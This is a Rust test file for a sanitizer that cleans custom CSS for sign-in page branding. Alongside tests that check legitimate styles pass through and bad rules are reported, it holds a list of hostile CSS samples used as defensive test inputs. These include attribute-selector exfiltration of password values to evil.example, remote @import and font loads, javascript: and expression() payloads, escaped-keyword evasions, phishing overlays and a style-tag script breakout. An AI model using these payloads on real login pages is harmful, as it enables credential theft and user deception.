use super::names::{PLAIN, STABLE_NAMES};
use super::*;

fn image(name: &str) -> Option<String> {
    (name == "backgroundImage").then(|| "/branding/t/abc.png".to_owned())
}

fn clean(text: &str) -> Sanitized {
    sanitize(text, &image)
}

#[test]
fn what_microsofts_template_does_comes_through() {
    let sheet = "
        /* the box */
        body { background-color: #FDF6F0; font-family: \"Segoe UI\", sans-serif }
        .ext-sign-in-box { border-radius: 1rem; padding: 2.5rem 2rem; box-shadow: 0 -2px 8px rgb(0 0 0 / 20%) }
        .ext-button.ext-primary:hover, .ext-button.ext-primary:focus:hover { background: linear-gradient(90deg, #123, #456 80%); }
        a:link { color: var(--accent-ink); text-decoration-thickness: 2px }
        .ext-background-image { background-image: url(backgroundImage); background-size: cover }
        .ext-middle > .ext-sign-in-box { width: calc(100% - 2rem) }
        @media (prefers-color-scheme: dark) and (min-width: 40rem) { .ext-title { color: white } }
    ";
    let Sanitized { css, dropped } = clean(sheet);
    assert_eq!(dropped, []);
    for kept in [
        "body{background-color:#fdf6f0;font-family:\"Segoe UI\",sans-serif;}",
        ".card{border-radius:1rem;padding:2.5rem 2rem;box-shadow:0 -2px 8px rgb(0 0 0 / 20%);}",
        ":is(button:not(.link, .account, .language, .option, .reveal), .button).primary:hover,:is(button:not(.link, .account, .language, .option, .reveal), .button).primary:focus:hover{background:linear-gradient(90deg,#123,#456 80%);}",
        "a:link{color:var(--accent-ink);text-decoration-thickness:2px;}",
        "{background-image:url(/branding/t/abc.png);background-size:cover;}",
        ":is(body:not(.split) .door)>.card{width:calc(100% - 2rem);}",
        "@media (prefers-color-scheme:dark) and (min-width:40rem){\n:is(.card h1){color:white;}\n}",
    ] {
        assert!(css.contains(kept), "{kept} not in {css}");
    }
}

#[test]
fn attacks_leave_nothing() {
    for attack in ATTACKS {
        let Sanitized { css, dropped } = clean(attack);
        assert_eq!(css, "", "{attack}");
        assert!(!dropped.is_empty(), "{attack}: nothing is said of it");
    }
    let open = clean(".ext-title { color: red").css;
    assert_eq!(open, ":is(.card h1){color:red;}\n", "the end closes everything, as in browsers");
}

#[test]
fn what_is_wrong_takes_nothing_else_with_it() {
    let Sanitized { css, dropped } = clean(
        ".ext-title { position: fixed;\n color: navy !important; : ; b }\n\
         .ext-evil, .ext-subtitle { color: #333 }\n\
         @import 'x';\n\
         .ext-hint { a { color: red } font-weight: 700 }\n.ext-label { font-weight: 600 }",
    );
    assert!(css.contains(":is(.card h1){color:navy;}"), "{css}");
    assert!(css.contains(".lead{color:#333;}"), "{css}");
    assert!(css.contains(":is(.card label){font-weight:600;}"), "{css}");
    let told: Vec<(usize, Why)> =
        dropped.iter().map(|dropped| (dropped.line, dropped.why)).collect();
    assert_eq!(
        told,
        [
            (1, Why::Property),
            (2, Why::Important),
            (2, Why::Syntax),
            (2, Why::Syntax),
            (3, Why::UnknownClass),
            (4, Why::AtRule),
            (5, Why::Syntax),
        ]
    );
    assert_eq!(
        dropped[0].to_string(),
        "line 1: position: fixed: this property is not on the list; it could hide, cover or imitate \
         something"
    );
}

#[test]
fn what_comes_out_stays_as_it_is() {
    // Written for our pages it names no stable class any more, so only texts without classes can
    // go through twice.
    let once = clean("body { color: #abc; margin: 1px 2px } a:hover { color: hsl(1 2% 3%) }").css;
    assert_eq!(clean(&once).css, once);
}

#[test]
fn a_sheet_is_bounded() {
    let long = ".ext-title{color:red}".repeat(LONGEST / 20);
    let Sanitized { css, dropped } = clean(&long);
    assert!(css.is_empty());
    assert_eq!(dropped[0].why, Why::TooLong);
    let wrong = "x;".repeat(1000) + &"}{".repeat(1000);
    assert!(clean(&wrong).dropped.len() <= MOST_REPORTED);
    let deep = format!(".ext-title{{width:{}", "calc(".repeat(10_000));
    assert_eq!(clean(&deep).css, "");
}

/// The contract: each stable name stands for something that some page has.
#[test]
fn names_are_sorted_out() {
    for pair in PLAIN.windows(2) {
        assert!(pair[0] < pair[1], "{} before {}", pair[0], pair[1]);
    }
    for name in STABLE_NAMES {
        assert!(name.class.starts_with("ext-"), "{}", name.class);
        let twice = STABLE_NAMES.iter().filter(|other| other.class == name.class).count();
        assert_eq!(twice, 1, "{}", name.class);
    }
}

/// A list that opens and a text of several lines are fields too.
#[test]
fn every_field_and_the_buttons_of_providers_have_a_name() {
    let of = |class: &str| STABLE_NAMES.iter().find(|name| name.class == class).unwrap().selector;
    for class in ["ext-input", "ext-text-box", "ext-has-error"] {
        for element in ["input", "select", "textarea"] {
            assert!(of(class).contains(&format!(" {element}")), "{class}: {element}");
        }
    }
    assert_eq!(of("ext-provider"), ".provider");
}

/// What has been used against style sheets of strangers. Nothing of it may be left.
const ATTACKS: &[&str] = &[
    "@import url(https://evil.example/x.css);",
    r"@\69mport 'x';",
    "@font-face { font-family: x; src: url(https://evil.example/f) }",
    "@charset \"utf-8\";",
    "@namespace x url(x);",
    "@keyframes x { from { color: red } }",
    "@supports (color: red) { .ext-title { color: red } }",
    "@media screen { .ext-title { color: red } }",
    "@media (min-width: 1px) { @import url(x); }",
    "@media (min-width: 1px) { @media (min-width: 2px) { .ext-title { color: red } } }",
    "input[value^=a] { background: url(https://evil.example/a) }",
    ".ext-input[type=password][value$=\"a\"] { background: red }",
    ".ext-input:not([value=a]) { color: red }",
    ".ext-input:has([value]) { color: red }",
    "input { color: red }",
    "* { color: red }",
    "#x { color: red }",
    ".card { color: red }",
    ".ext-evil { color: red }",
    "a:visited { color: red }",
    ".ext-title::before { content: 'Enter your card number' }",
    ".ext-title::after { color: red }",
    ".ext-title { content: 'x' }",
    ".ext-sign-in-box { position: fixed; inset: 0; z-index: 9999 }",
    ".ext-sign-in-box { position: absolute }",
    ".ext-sign-in-box { transform: translate(-100vw) }",
    ".ext-sign-in-box { display: none }",
    ".ext-error { visibility: hidden; opacity: 0 }",
    ".ext-error { clip-path: inset(50%) }",
    ".ext-sign-in-box { margin-top: -100vh }",
    ".ext-sign-in-box { MARGIN: 0 0 -9em }",
    ".ext-error { color: transparent }",
    ".ext-error { color: rgb(0 0 0 / 0) }",
    ".ext-error { color: rgba(0,0,0,0) }",
    ".ext-error { color: rgb(0,0,0,0) }",
    ".ext-error { color: #0000 }",
    ".ext-error { font-size: 0 }",
    ".ext-error { font-size: 1px }",
    ".ext-error { font-size: calc(1rem * 0) }",
    ".ext-error { text-indent: -9999px }",
    ".ext-input { background: url(https://evil.example/) }",
    ".ext-input { background: url(//evil.example/) }",
    ".ext-input { background: url('https://evil.example/') }",
    ".ext-input { background: URL(\"javascript:alert(1)\") }",
    ".ext-input { background: url(data:image/png;base64,AAAA) }",
    r".ext-input { background: u\72l(https://evil.example/) }",
    ".ext-input { background: image-set('x' 1x) }",
    ".ext-input { background: src('x') }",
    ".ext-input { background: -webkit-image-set(url(x) 1x) }",
    ".ext-input { background: element(#x) }",
    ".ext-input { background: paint(x) }",
    ".ext-input { width: expression(alert(1)) }",
    r".ext-input { width: e\78pression(alert(1)) }",
    ".ext-input { behavior: url(x.htc) }",
    ".ext-input { -moz-binding: url(x.xml#x) }",
    ".ext-input { filter: url(#x) }",
    ".ext-input { mask: url(x) }",
    ".ext-input { cursor: url(x), auto }",
    ".ext-input { list-style-image: url(x) }",
    ".ext-input { border-image: url(backgroundImage) 1 }",
    ".ext-input { --x: url(https://evil.example/) }",
    ".ext-input { background: var(--x) }",
    ".ext-input { background: var(--x, url(https://evil.example/)) }",
    ".ext-input { color: attr(value) }",
    ".ext-input { width: 1e9px }",
    ".ext-title { all: unset }",
    ".ext-title { pointer-events: none }",
    ".ext-title { user-select: none }",
    ".ext-title { animation: x 1s }",
    ".ext-title { outline: none }",
    "</style><script>alert(1)</script>",
    "<!-- .ext-evil { color: red } -->",
];
